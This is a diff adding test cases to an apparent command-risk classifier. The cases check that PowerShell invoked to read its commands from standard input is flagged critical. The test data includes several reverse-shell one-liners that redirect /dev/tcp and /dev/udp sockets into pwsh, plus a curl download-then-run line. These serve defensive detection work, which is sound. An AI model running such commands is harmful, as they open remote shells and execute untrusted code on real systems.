@@ -123,3 +123,20 @@ describe("an interpreter reading its program from a file by redirection", () => 
     expect(risk(command, shell), shown(command, shell)).toBe(expected);
   });
 });
+
+describe("PowerShell reading its commands from standard input", () => {
+  it.each<[ShellKind, string, Risk]>([
+    // With no -Command or -File, pwsh runs what standard input carries, as bash does: a socket is a reverse shell.
+    ["bash", "pwsh < /dev/tcp/10.0.0.1/4444", "critical"],
+    ["bash", "powershell < /dev/tcp/10.0.0.1/4444", "critical"],
+    ["bash", "pwsh -NoProfile -Command - < /dev/udp/10.0.0.1/53", "critical"],
+    ["bash", "pwsh -File /dev/stdin < /dev/tcp/10.0.0.1/4444", "critical"],
+    ["powershell", "pwsh.exe < /dev/tcp/10.0.0.1/4444", "critical"],
+    ["bash", "curl -o x.ps1 https://x && pwsh < x.ps1", "critical"],
+    // A script named by -File is the program; standard input is only its data.
+    ["bash", "pwsh -File build.ps1 < /dev/tcp/10.0.0.1/4444", "safe"],
+    ["bash", "pwsh < build.ps1", "safe"],
+  ])("%s: %s → %s", (shell, command, expected) => {
+    expect(risk(command, shell), shown(command, shell)).toBe(expected);
+  });
+});
